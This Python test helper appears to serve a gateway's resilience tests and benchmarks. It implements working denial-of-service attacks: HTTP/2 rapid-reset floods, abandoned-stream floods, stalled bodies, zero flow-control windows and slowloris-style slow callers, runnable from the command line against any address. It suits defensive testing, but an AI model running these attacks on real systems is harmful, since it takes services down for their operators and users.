"""What callers do who mean a gateway no good: raw sockets, made to cost the one
who runs them as little as they can. Used by the gateway's test and by the
figures of tools/bench; `source` is the address that they come from, and `held`
an ExitStack that keeps open what they hold.
"""

import contextlib
import selectors
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
CANCEL = struct.pack("!I", 8)
READ = "/v1/programs/jusou/rosters/2025"
WRITE = "/v1/municipalities:batchImport"


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def head(method, path):
    """A block of HPACK, of indexed and literal fields only."""
    name = {"GET": b"\x82", "POST": b"\x83"}[method]
    return (name + b"\x86\x44" + bytes([len(path)]) + path.encode() + b"\x41\x01a"
            + (b"\x5f\x10application/json" if method == "POST" else b""))


def connect(http, source):
    host, _, port = http.rpartition(":")
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(10)
    if source != "127.0.0.1":
        sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        sock.bind((source, 0))
    sock.connect((host, int(port)))
    return sock


def send(sock, data):
    """False where the other side has closed."""
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def calls(count, reset):
    out = [PREFACE, frame(SETTINGS, 0, 0)]
    block = head("GET", READ)
    for stream in range(1, 2 * count, 2):
        out.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
        if reset:
            out.append(frame(RST_STREAM, 0, stream, CANCEL))
    return b"".join(out)


def _repeat(http, source, data, connections=None, seconds=None):
    until = None if seconds is None else time.monotonic() + seconds
    made = 0
    while (connections is None or made < connections) and (until is None or time.monotonic() < until):
        with contextlib.suppress(OSError), contextlib.closing(connect(http, source)) as sock:
            send(sock, data)
        made += 1
    return made


def resets(http, source, connections=None, seconds=None):
    """Opens connections, and resets 990 calls on each."""
    return _repeat(http, source, calls(990, True), connections, seconds)


def leaving(http, source, connections=None, seconds=None):
    """Opens connections, makes 100 calls on each and leaves."""
    return _repeat(http, source, calls(100, False), connections, seconds)


def hold_bodies_http2(http, source, connections, held):
    """Connections of 100 streams, each with a body of which something is missing."""
    opened = [PREFACE, frame(SETTINGS, 0, 0)]
    block = head("POST", WRITE)
    opened += [frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 200, 2)]
    part = b"".join(frame(DATA, 0, stream, b" " * 16_000) for stream in range(1, 200, 2))
    for _ in range(connections):
        with contextlib.suppress(OSError):
            sock = held.enter_context(contextlib.closing(connect(http, source)))
            send(sock, b"".join(opened)) and all(send(sock, part) for _ in range(4))


def hold_bodies_http1(http, source, connections, held):
    """Connections with one request each, whose body stalls."""
    request = (f"POST {WRITE} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
               "Content-Length: 1000\r\n\r\n{").encode()
    for _ in range(connections):
        with contextlib.suppress(OSError):
            sock = held.enter_context(contextlib.closing(connect(http, source)))
            send(sock, request)


def hold_answers(http, source, connections, held):
    """Connections that ask 100 times, and open no window for the answers."""
    shut = struct.pack("!HI", INITIAL_WINDOW_SIZE, 0)
    data = [PREFACE, frame(SETTINGS, 0, 0, shut)]
    block = head("GET", READ)
    data += [frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 200, 2)]
    for _ in range(connections):
        with contextlib.suppress(OSError):
            sock = held.enter_context(contextlib.closing(connect(http, source)))
            send(sock, b"".join(data))


class Slow:
    """Callers who do all that they should, a byte at a time: a third of them their
    heads, a third their bodies, a third take their answers so; over HTTP/1.1 and
    HTTP/2 in turn. They go on until the block ends."""

    SHUT = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW_SIZE, 0))
    POST = (f"POST {WRITE} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
            "Content-Length: 1000000\r\n\r\n").encode()

    def __init__(self, http, source, connections, held):
        self.callers = []
        self._stop = threading.Event()
        for number in range(connections):
            sock = held.enter_context(contextlib.closing(connect(http, source)))
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            first, each, reads = self._manner(number % 6)
            send(sock, first)
            sock.setblocking(False)
            self.callers.append([sock, each, reads])
        thread = threading.Thread(target=self._run)
        held.callback(thread.join)
        held.callback(self._stop.set)
        thread.start()

    def _manner(self, kind):
        """What is sent first, what then in each turn, whether answers are read."""
        ask = frame(HEADERS, END_HEADERS | END_STREAM, 1, head("GET", READ))
        return (
            (b"", b"GET " + READ.encode() + b" HTTP/1.1\r\nHost: a\r\nA: " + b"b" * 10_000, False),
            (PREFACE + frame(SETTINGS, 0, 0), frame(HEADERS, END_HEADERS, 1, b"\0" * 10_000), False),
            (self.POST, b" " * 1_000_000, False),
            (PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, head("POST", WRITE)),
             None, False),
            (f"GET {READ} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * 100, b"", True),
            (self.SHUT + ask, frame(8, 0, 1, struct.pack("!I", 1)), True),
        )[kind]

    def _run(self):
        turn = 0
        while not self._stop.wait(0.1):
            for sock, each, reads in self.callers:
                if each is None:
                    part = frame(DATA, 0, 1, b" ")
                elif reads:
                    part = each
                else:
                    part = each[turn:turn + 1]
                with contextlib.suppress(OSError):
                    if part:
                        sock.send(part)
                    if reads:
                        sock.recv(1)
            turn += 1

    def connected(self):
        """How many of them are."""
        count = 0
        for sock, _, _ in self.callers:
            with contextlib.suppress(OSError):
                sock.getpeername()
                try:
                    count += bool(sock.recv(1, socket.MSG_PEEK))
                except BlockingIOError:
                    count += 1
        return count


def _held(attack, connections):
    def run(http, source, seconds):
        with contextlib.ExitStack() as held:
            attack(http, source, connections, held)
            time.sleep(seconds)
    return run


# By name: what goes on for so many seconds.
ATTACKS = {
    "resets": lambda http, source, seconds: resets(http, source, seconds=seconds),
    "leaving": lambda http, source, seconds: leaving(http, source, seconds=seconds),
    "bodies over HTTP/2": _held(hold_bodies_http2, 50),
    "bodies over HTTP/1.1": _held(hold_bodies_http1, 4096),
    "answers unread": _held(hold_answers, 200),
}


def sink():
    """Takes connections, reads what comes and answers nothing: what an attack costs
    the machine where nobody is attacked. Prints its address."""
    taken = selectors.DefaultSelector()
    with socket.create_server(("127.0.0.1", 0), backlog=4096) as listener:
        listener.setblocking(False)
        taken.register(listener, selectors.EVENT_READ)
        print("{}:{}".format(*listener.getsockname()), flush=True)
        while True:
            for key, _ in taken.select():
                with contextlib.suppress(BlockingIOError):
                    if key.fileobj is listener:
                        taken.register(listener.accept()[0], selectors.EVENT_READ)
                    elif not read_some(key.fileobj):
                        taken.unregister(key.fileobj)
                        key.fileobj.close()


def read_some(sock):
    """False at the end of what comes."""
    try:
        return bool(sock.recv(1 << 20))
    except ConnectionResetError:
        return False


if __name__ == "__main__":
    if sys.argv[1] == "sink":
        sink()
    ATTACKS[sys.argv[1]](sys.argv[2], sys.argv[3], float(sys.argv[4]))
